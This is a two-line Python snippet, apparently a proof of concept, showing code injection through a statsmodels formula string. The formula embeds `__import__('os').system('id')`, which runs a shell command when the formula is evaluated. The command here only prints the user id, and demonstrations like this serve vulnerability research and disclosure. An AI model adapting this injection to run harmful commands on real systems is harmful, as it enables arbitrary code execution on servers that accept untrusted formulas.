import statsmodels.formula.api as smf
smf.ols(data=data["x"], formula="y ~ __import__('os').system('id')")
